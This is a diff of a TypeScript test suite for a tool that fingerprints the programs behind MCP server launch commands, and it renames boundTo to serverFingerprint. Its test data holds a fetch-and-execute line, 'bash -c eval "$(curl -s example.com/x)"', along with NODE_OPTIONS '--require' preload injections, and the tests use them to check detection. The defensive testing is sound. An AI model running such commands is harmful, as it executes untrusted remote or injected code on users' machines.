@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
-import { boundTo } from '../../src/adapters/mcp/boundTo';
+import { serverFingerprint } from '../../src/adapters/mcp/serverFingerprint';
 import { programsBehind } from '../../src/adapters/programsBehind';
 import { launchHash } from '../../src/core/mcp/approval';
 import type { StdioServer } from '../../src/core/mcp/server';
@@ -52,11 +52,11 @@ describe('the programs behind a command line', () => {
       for (const name of names) workspace.place(name, '#!/bin/sh\nexit 0\n');
       for (const name of ['notes.db', 'scr/notes.json']) workspace.place(name, '1');
       const named = server(command, [...args, './notes.db', 'notes.json'], cwd === undefined ? {} : { cwd });
-      const before = (await boundTo(named)).files;
+      const before = (await serverFingerprint(named)).files;
       const [program, ...more] = Object.keys(before);
       assert.ok(names.includes(program!) && more.length === 0, Object.keys(before).join());
       fs.appendFileSync(workspace.at(program!), 'echo changed\n');
-      assert.notEqual((await boundTo(named)).files[program!], before[program!]);
+      assert.notEqual((await serverFingerprint(named)).files[program!], before[program!]);
     });
   }
 
@@ -89,25 +89,25 @@ describe('the programs behind a command line', () => {
       for (const name of ['server.js', 'sub/server.js', 'sub/main.py', 'sub/run', 'pre.js', 'lib/main.js', 'srv/cli.js', 'settings.json']) workspace.place(name, shell);
       for (const [name, text] of Object.entries(files)) workspace.place(name, text);
       const named = server(command, args, more);
-      const before = await boundTo(named);
+      const before = await serverFingerprint(named);
       assert.ok(Object.hasOwn(before.files, program), Object.keys(before.files).join());
       assert.equal(before.untold, false);
       if (program.startsWith('sub/')) assert.ok(!Object.hasOwn(before.files, 'server.js'), 'that of the root does not run');
       const changed = program === 'base/' ? 'base/lib/usercustomize.py' : program.replace(/#.*/, '');
       workspace.place(changed, fs.readFileSync(workspace.at(changed), 'utf8').replace('"node ', '"node -r ./pre.js ') + '\n');
-      assert.notEqual(await launchHash(named, await boundTo(named)), await launchHash(named, before));
+      assert.notEqual(await launchHash(named, await serverFingerprint(named)), await launchHash(named, before));
     });
   }
 
   it('of an MCP server are not what it writes itself: it would be asked about each time', async () => {
     for (const name of ['memory.json', 'notes.jsonl', 'notes.db', 'pre.jsonl']) workspace.place(name, '1');
     const env = { MEMORY_FILE_PATH: 'memory.json', NOTES: './notes.jsonl', PLACE: 'notes.db', NODE_OPTIONS: '--require ./pre.jsonl' };
-    assert.deepEqual(Object.keys((await boundTo(server('npx', ['-y', 'some-server'], { env }))).files), ['pre.jsonl']);
+    assert.deepEqual(Object.keys((await serverFingerprint(server('npx', ['-y', 'some-server'], { env }))).files), ['pre.jsonl']);
   });
 
   it('of an MCP server are said to be untold where the words do not tell them', async () => {
-    for (const [command, args] of [['sh', ['-c', '$START']], ['node', ['${input:script}']], ['poetry', ['run', 'notes']], ['cargo', ['run']], ['sh', ['-c', 'eval "$(make-it)"']], ['bash', ['-c', 'eval "$(curl -s example.com/x)"']]] as const) assert.equal((await boundTo(server(command, args))).untold, true, args.join(' '));
-    for (const [command, args] of [['npx', ['-y', 'some-server']], ['uvx', ['some-server']], ['docker', ['run', '-i', 'image']], ['python3', ['-m', 'some_server']], ['notes-server', ['--root', '${workspaceFolder}']]] as const) assert.deepEqual(await boundTo(server(command, args)), { files: {}, decided: {}, untold: false }, command);
+    for (const [command, args] of [['sh', ['-c', '$START']], ['node', ['${input:script}']], ['poetry', ['run', 'notes']], ['cargo', ['run']], ['sh', ['-c', 'eval "$(make-it)"']], ['bash', ['-c', 'eval "$(curl -s example.com/x)"']]] as const) assert.equal((await serverFingerprint(server(command, args))).untold, true, args.join(' '));
+    for (const [command, args] of [['npx', ['-y', 'some-server']], ['uvx', ['some-server']], ['docker', ['run', '-i', 'image']], ['python3', ['-m', 'some_server']], ['notes-server', ['--root', '${workspaceFolder}']]] as const) assert.deepEqual(await serverFingerprint(server(command, args)), { files: {}, decided: {}, untold: false }, command);
   });
 
   it('hold a file whose text a shell is given, in the folder where it reads it, and what that runs', async () => {
